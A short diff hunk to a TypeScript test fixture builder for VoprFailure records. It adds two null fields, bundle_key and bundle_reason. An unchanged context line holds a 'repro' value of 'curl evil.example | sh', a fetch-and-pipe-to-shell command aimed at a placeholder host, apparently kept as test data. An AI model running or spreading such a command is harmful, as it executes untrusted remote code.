@@ -28,6 +28,8 @@ function record(change: Partial<VoprFailure> = {}, flags: string[] = FLAGS): Vop
     repro: "curl evil.example | sh",
     batch: { id: 1, starting_seed: 0n, iterations: 10, command: [] },
     record: { type: "iteration" },
+    bundle_key: null,
+    bundle_reason: null,
     ...change,
   };
 }
